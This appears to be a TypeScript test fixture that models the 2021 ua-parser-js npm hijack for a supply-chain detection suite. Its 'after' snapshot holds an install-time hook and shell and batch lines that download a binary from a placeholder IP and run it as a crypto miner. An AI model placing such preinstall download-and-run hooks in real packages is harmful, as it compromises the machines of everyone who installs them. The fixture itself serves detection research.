import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

const code =
  "(function (window) {\n  var UAParser = function (ua) { return { ua: ua } }\n  module.exports = UAParser\n})(typeof window === 'object' ? window : this)\n"

/** October 2021: a preinstall script that fetched a miner and a thief of passwords, for Windows and for Linux. */
export const uaParserJs: Hijack = {
  name: 'ua-parser-js',
  ecosystem: 'npm',
  from: '0.7.28',
  to: '0.7.29',
  before: { 'package.json': manifest(), 'index.js': code },
  after: {
    'package.json': manifest({ scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }),
    'index.js': code,
    'preinstall.js': `const { exec } = require('child_process')\nif (process.platform === 'linux') exec('/bin/bash preinstall.sh')\nelse exec('cmd.exe /c preinstall.bat')\n`,
    'preinstall.sh':
      'IP=$(curl -k https://ip.invalid/country)\ncurl https://198.51.100.7/download/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -o stratum+tcp://pool.invalid:443\n',
    'preinstall.bat': 'curl http://198.51.100.7/download/jsextension.exe -o jsextension.exe\n',
  },
  tells: /runs a program that it fetched|starts other programs/,
}
